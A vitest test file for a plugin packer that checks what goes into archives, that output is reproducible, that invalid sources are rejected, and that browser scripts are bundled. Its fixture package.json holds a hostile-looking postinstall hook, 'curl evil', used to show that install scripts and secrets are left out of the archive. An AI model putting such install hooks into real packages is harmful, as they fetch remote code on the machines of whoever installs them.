import { cp, mkdir, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { examineArchive, readArchive, writeArchive } from '@liberacces/core'
import { expect, onTestFinished, test } from 'vitest'
import { runCertify } from '../src/cli/run-certify.ts'
import { PackError } from '../src/pack/pack-error.ts'
import { packPlugin } from '../src/pack/pack-plugin.ts'

const PLUGIN = `import { definePlugin, Type } from '@liberacces/sdk'
import { Page } from '@liberacces/sdk/ui'
import pad from 'left-pad'
import fr from '../messages/fr.json' with { type: 'json' }

export default definePlugin()({
  id: 'fr.test.packed', version: '1.2.0', path: 'packed', sdk: '*', license: 'MIT', title: { fr: 'Paquet' }, publisher: { name: 'Test', contact: 'x' },
  runtime: 'inline', scopes: ['files'], privacy: { stores: [] }, messages: { fr, en: fr },
  setup(k) { k.page({ path: '/', audience: 'public', title: 'title' }, (c) => <Page title={pad(c.t('title'))} />) },
})
`
const SOUND: Readonly<Record<string, string>> = {
  'package.json': JSON.stringify({ name: '@test/packed', version: '1.2.0', private: true, type: 'module', license: 'MIT', exports: { '.': './src/plugin.tsx' }, scripts: { postinstall: 'curl evil' }, dependencies: { 'left-pad': '*' } }),
  'src/plugin.tsx': PLUGIN,
  'messages/fr.json': '{ "title": "Paquet" }',
  'README.md': '# Paquet\n', 'CHANGELOG.md': '# 1.2.0\n', 'LICENSE': 'MIT\n', 'assets/logo.svg': '<svg xmlns="http://www.w3.org/2000/svg"/>',
  'test/secret.test.ts': 'not packed', '.env': 'SECRET=1',
  'node_modules/left-pad/package.json': '{ "name": "left-pad", "version": "1.3.0", "license": "MIT", "main": "index.js" }',
  'node_modules/left-pad/index.js': 'module.exports = function (text) { return " " + text }\n',
  'node_modules/left-pad/LICENSE': 'Copyright of left-pad\n',
}

/** The source of a plugin, somewhere below a temporary folder. */
async function source(changes: Readonly<Record<string, string | null>> = {}, below = 'a'): Promise<string> {
  const root = await mkdtemp(join(tmpdir(), 'liberacces-pack-'))
  onTestFinished(() => rm(root, { recursive: true, force: true }))
  const folder = join(root, below)
  for (const [path, content] of Object.entries({ ...SOUND, ...changes })) {
    if (content === null) continue
    await mkdir(dirname(join(folder, path)), { recursive: true })
    await writeFile(join(folder, path), content)
  }
  return folder
}
const problemsOf = (folder: string): Promise<readonly string[]> => packPlugin(folder).then(() => [], (error: unknown) => { if (error instanceof PackError) return error.problems; throw error })

test('[PACK1] an archive holds the code in one file, its manifest, messages, assets and documents, and no script, dependency or secret', async () => {
  const { archive, manifest, files, digest } = await packPlugin(await source())
  expect(files).toEqual(['CHANGELOG.md', 'LICENSE', 'README.md', 'THIRD-PARTY.txt', 'assets/logo.svg', 'digests.json', 'messages/fr.json', 'package.json', 'plugin.cjs', 'plugin.json', 'sbom.cdx.json'])
  expect(manifest).toMatchObject({ id: 'fr.test.packed', version: '1.2.0', scopes: ['files'] })
  expect(await examineArchive(archive, 'the test', () => Promise.resolve())).toEqual({ ok: true, manifest, digest, files: files.length })
  const text = archive.toString('latin1')
  expect(text).not.toContain('SECRET')
})

test('[PACK2] the same source gives the same bytes, wherever it lies and whenever it is packed', async () => {
  const one = await source()
  const other = await source({}, 'much/further/below')
  await cp(join(one, 'src'), join(other, 'src'), { recursive: true })
  const [first, second, again] = [await packPlugin(one), await packPlugin(other), await packPlugin(one)]
  expect([second.digest, again.digest]).toEqual([first.digest, first.digest])
  expect(first.archive.equals(second.archive)).toBe(true)
  expect((await packPlugin(await source({ 'README.md': 'Other' }))).digest).not.toBe(first.digest)
})

test('[PACK3] what cannot be installed is not packed, with every reason', async () => {
  expect(await problemsOf(await source({ 'package.json': null }))).toEqual([expect.stringContaining('is no package')])
  expect(await problemsOf(await source({ 'package.json': '{ "name": "x", "version": "1.2.0" }' }))).toEqual([expect.stringContaining('names no main file')])
  expect(await problemsOf(await source({ 'package.json': (SOUND['package.json'] ?? '').replace('1.2.0', '1.3.0') }))).toEqual([expect.stringContaining('must be the same')])
  expect(await problemsOf(await source({ 'src/plugin.tsx': `${PLUGIN}\nimport './nowhere.ts'\nimport 'no-such-package'\n` }))).toEqual([expect.stringContaining('nowhere.ts'), expect.stringContaining('no-such-package')])
  expect(await problemsOf(await source({ 'src/plugin.tsx': `throw new Error('no licence key')` }))).toEqual([expect.stringContaining('no licence key')])
  expect((await problemsOf(await source({ 'src/plugin.tsx': PLUGIN.replace("title: 'title'", "title: 'nothing'").replace("path: '/'", "path: 'x'") }))).join('\n')).toMatch(/"nothing" is used as a title[\s\S]*a path starts with|a path starts with[\s\S]*"nothing" is used as a title/)
  expect((await problemsOf(await source({ 'assets/tool.exe': 'MZ' }))).join()).toContain('native code')
})

test('[C525] partners that are described travel in the archive; a description that cannot be played is not packed', async () => {
  const described = '{ "partners": [{ "host": "bus.example", "port": 1, "answers": [] }] }'
  const { archive } = await packPlugin(await source({ 'certification/partners.json': described, 'certification/other.txt': 'not packed' }))
  const { files } = await readArchive(archive)
  expect([...files].filter(([path]) => path.startsWith('certification/')).map(([path, content]) => [path, content.toString()])).toEqual([['certification/partners.json', described]])
  expect(await problemsOf(await source({ 'certification/partners.json': '{ "partners": [1] }' }))).toEqual([expect.stringMatching(/^certification\/partners\.json: partners\[0\] /)])
})

test('[PACK3] the command writes the archive, says its digest, and ends with 1 for a plugin and 2 for wrong usage', async () => {
  const folder = await source()
  const said: string[] = []
  const run = (...args: readonly string[]): Promise<number> => runCertify(args, dirname(folder), { out: (text) => said.push(text), err: (text) => said.push(text) })
  expect(await run('pack', 'a', '--out', 'made', '--json')).toBe(0)
  const answer = JSON.parse(said.pop() ?? '') as { readonly file: string; readonly digest: string }
  expect([await readdir(join(dirname(folder), 'made')), (await readFile(answer.file)).length > 0]).toEqual([['fr.test.packed-1.2.0.tgz'], true])
  expect(await run('pack', 'a')).toBe(0)
  expect(said.pop()).toContain(answer.digest)
  await rm(join(folder, 'src'), { recursive: true })
  expect(await run('pack', 'a')).toBe(1)
  expect(said.pop()).toContain('cannot be packed')
  expect([await run('pack'), await run('nonsense'), await run('--help')]).toEqual([2, 2, 0])
})

const SCRIPTED = PLUGIN.replace("scopes: ['files'],", "scopes: ['browser'], browser: ['main'], permissions: { use: { title: { fr: 'x' }, roles: ['agent'] } },")
  .replace("{ path: '/', audience: 'public', title: 'title' }", "{ path: '/', audience: 'agent', permission: 'use', title: 'title', browser: { script: 'main' } }")

test('[W17] scripts for pages are in the archive as one module each, the same wherever they were packed; one that is missing, more than are named, or made of a package keeps it from being packed or taken in', async () => {
  const files = { 'src/plugin.tsx': SCRIPTED, 'browser/main.ts': "import { text } from './text.ts'\nconst shown: string = text\ndocument.title = shown\n", 'browser/text.ts': "export const text: string = 'vu'\n" }
  const [first, second] = [await packPlugin(await source(files)), await packPlugin(await source(files, 'much/further/below'))]
  expect([second.digest, first.manifest.browser]).toEqual([first.digest, ['main']])
  const { files: packed } = await readArchive(first.archive)
  expect(packed.get('browser/main.js')?.toString()).toBe('// text.ts\nvar text = "vu";\n\n// main.ts\nvar shown = text;\ndocument.title = shown;\n')
  expect([...packed.keys()].filter((path) => path.startsWith('browser/'))).toEqual(['browser/main.js'])

  expect(await problemsOf(await source({ ...files, 'browser/main.ts': null }))).toEqual(['browser/main.ts, a script that definePlugin({ browser }) names, is missing.'])
  expect(await problemsOf(await source({ ...files, 'browser/main.ts': "import 'left-pad'\n" }))).toEqual([expect.stringContaining('"left-pad" is no file of its own')])
  const { 'digests.json': _, ...without } = Object.fromEntries(packed)
  const problems = async (changes: Readonly<Record<string, Buffer | undefined>>): Promise<readonly string[]> => {
    const changed = Object.entries({ ...without, ...changes }).flatMap(([path, content]) => (content === undefined ? [] : [[path, content] as const]))
    const examined = await examineArchive(await writeArchive(new Map(changed)), 'the test', () => Promise.resolve())
    return examined.ok ? [] : examined.problems.map(({ message }) => message)
  }
  expect(await problems({})).toEqual([])
  expect(await problems({ 'browser/main.js': undefined })).toEqual([expect.stringContaining('browser/main.js, which plugin.json names, is missing.')])
  expect(await problems({ 'browser/more.js': Buffer.from('x') })).toEqual([expect.stringContaining('browser/more.js is no script that plugin.json names.')])
})
